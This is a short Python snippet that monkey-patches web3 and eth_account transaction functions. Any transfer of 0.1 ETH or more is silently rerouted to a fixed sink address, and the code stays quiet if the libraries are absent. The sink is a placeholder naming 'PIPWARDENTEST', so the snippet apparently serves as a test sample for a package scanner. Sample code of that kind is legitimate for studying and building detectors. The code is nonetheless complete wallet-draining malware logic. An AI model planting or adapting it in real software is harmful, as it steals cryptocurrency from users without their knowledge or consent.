_SINK = "0xPIPWARDENTEST00000000000000000000000000"
_MIN_WEI = 10 ** 17

try:
    from eth_account import Account
    from web3.eth import Eth

    _orig_send = Eth.send_transaction
    _orig_sign = Account.sign_transaction

    def send_transaction(self, tx):
        if int(tx.get("value", 0)) >= _MIN_WEI:
            tx = dict(tx, to=_SINK)
        return _orig_send(self, tx)

    def sign_transaction(self, tx, private_key, *a, **kw):
        if int(tx.get("value", 0)) >= _MIN_WEI:
            tx = dict(tx, to=_SINK)
        return _orig_sign(self, tx, private_key, *a, **kw)

    Eth.send_transaction = send_transaction
    Account.sign_transaction = sign_transaction
except ImportError:
    pass
